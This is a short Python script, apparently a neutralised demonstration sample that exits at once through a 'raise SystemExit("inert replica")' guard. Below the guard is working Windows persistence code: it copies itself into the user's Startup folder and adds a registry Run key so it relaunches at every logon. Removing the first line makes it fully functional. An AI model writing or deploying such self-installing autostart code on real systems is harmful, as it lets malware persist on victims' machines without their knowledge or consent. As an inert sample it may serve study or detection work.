raise SystemExit("inert replica")
import os
import shutil
import sys

PLACE = os.path.join(os.environ["APPDATA"], "Microsoft", "Windows", "Start Menu", "Programs", "Startup", "replica.pyw")
shutil.copyfile(__file__, PLACE)
os.system(f'reg add "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run" /v Replica /d "{sys.executable} {PLACE}" /f')
